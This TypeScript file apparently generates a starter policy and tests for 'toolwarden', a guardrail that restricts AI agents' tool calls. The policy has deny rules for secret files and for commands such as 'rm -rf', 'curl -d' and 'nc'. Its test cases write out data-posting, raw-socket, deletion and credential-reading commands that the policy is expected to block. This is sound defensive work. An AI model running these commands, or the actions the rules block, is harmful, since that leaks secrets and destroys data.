// The starter policy and its tests that `toolwarden init` writes.

export function starterPolicy(schemaPath: string): string {
  return `# yaml-language-server: $schema=${schemaPath}
#
# A starter policy. Every section is optional except version and id; see the
# authoring guide (docs/authoring.md) for the whole language.
# Decisions combine as deny > ask > allow, and policies only ever restrict.
version: 1
id: starter
description: Keep agents out of secrets and ask before they push.

# Which calls this policy governs. Remove \`match\` to govern every call.
match:
  tools: ["*"]

# Paths no tool may touch. A glob without \`/\` matches the file name at any depth.
paths:
  forbidden: [".env", ".env.*", "*.pem", "*.key", "id_rsa*", "**/.ssh/**", "~/.aws/**"]

# Shell commands are parsed into simple commands; each is checked on its own.
shell:
  approve: ["git push *"]     # a human confirms
  deny: ["rm -rf *", "curl * -d *", "nc *"]

# Calls per session; a call with no session id is denied.
limits:
  maxToolCalls: 500

# What an \`ask\` carries to the approval prompt.
approval:
  severity: warning
  timeoutMs: 120000
`;
}

export const STARTER_TESTS = `# Policy tests: run with \`toolwarden test\`. Every case starts from fresh limit state.
policies: [starter.yaml]
cases:
  - name: reading the project is allowed
    call: { toolName: read, params: { path: README.md }, cwd: /srv/project, sessionId: t1 }
    expect: allow

  - name: reading a dot-env file is denied, at any depth
    call: { toolName: read, params: { path: config/.env }, cwd: /srv/project, sessionId: t1 }
    expect: deny
    reasons: [paths.forbidden]

  - name: environment variants are secrets too
    call: { toolName: read, params: { path: .env.production }, cwd: /srv/project, sessionId: t1 }
    expect: deny

  - name: private keys are denied by extension
    call: { toolName: exec, params: { command: "cat deploy/server.pem" }, cwd: /srv/project, sessionId: t1 }
    expect: deny

  - name: key files are denied
    call: { toolName: read, params: { path: tls/site.key }, cwd: /srv/project, sessionId: t1 }
    expect: deny

  - name: anything in an .ssh folder is denied
    call: { toolName: read, params: { path: ~/.ssh/config }, cwd: /srv/project, sessionId: t1 }
    expect: deny

  - name: id_rsa copies are denied anywhere
    call: { toolName: read, params: { path: backup/id_rsa.old }, cwd: /srv/project, sessionId: t1 }
    expect: deny

  - name: cloud credentials are denied
    call: { toolName: read, params: { path: ~/.aws/credentials }, cwd: /srv/project, sessionId: t1 }
    expect: deny

  - name: pushing asks, even after an allowed command
    call: { toolName: exec, params: { command: "git status && git push origin main" }, cwd: /srv/project, sessionId: t1 }
    expect: ask
    reasons: [shell.approve]

  - name: recursive deletes are denied
    call: { toolName: exec, params: { command: "rm -rf build" }, cwd: /srv/project, sessionId: t1 }
    expect: deny
    reasons: [shell.deny]

  - name: posting data out is denied
    call: { toolName: exec, params: { command: "curl https://example.com -d @notes.txt" }, cwd: /srv/project, sessionId: t1 }
    expect: deny

  - name: raw sockets are denied
    call: { toolName: exec, params: { command: "nc example.com 443" }, cwd: /srv/project, sessionId: t1 }
    expect: deny

  - name: the 501st call of a session is denied
    sequence:
      - { call: { toolName: read, params: { path: README.md }, cwd: /srv/project, sessionId: t2 }, expect: allow, repeat: 500 }
      - { call: { toolName: read, params: { path: README.md }, cwd: /srv/project, sessionId: t2 }, expect: deny, reasons: [limits.maxToolCalls] }
`;
